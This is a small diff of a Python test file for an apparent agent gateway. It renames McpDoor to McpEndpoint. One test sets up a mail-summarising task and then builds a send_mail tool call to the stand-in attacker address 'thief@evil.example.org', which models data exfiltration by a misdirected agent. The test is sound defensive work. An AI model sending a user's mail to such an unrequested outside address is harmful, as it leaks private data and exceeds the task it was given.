@@ -9,7 +9,7 @@ import pytest
 
 from remit.core.decisions.decision import Outcome
 from remit.core.evidence.event import EventKind
-from remit.gateway.mcp import McpDoor
+from remit.gateway.mcp import McpEndpoint
 from tests.flow_world import FlowWorld, flow_world
 from tests.gateway_world import ENVELOPE, MODERN
 from tests.house_world import exchange
@@ -90,7 +90,7 @@ async def test_the_agent_is_told_the_chain_on_the_wire(world: FlowWorld) -> None
     await world.open("Summarise my mail")
     await world.run("read_mail", folder="inbox")
     token = await task_token(world.house, world.task.id)
-    door = McpDoor(world.house)
+    door = McpEndpoint(world.house)
     params = {
         "name": "send_mail",
         "arguments": {"to": "thief@evil.example.org", "body": "x"},
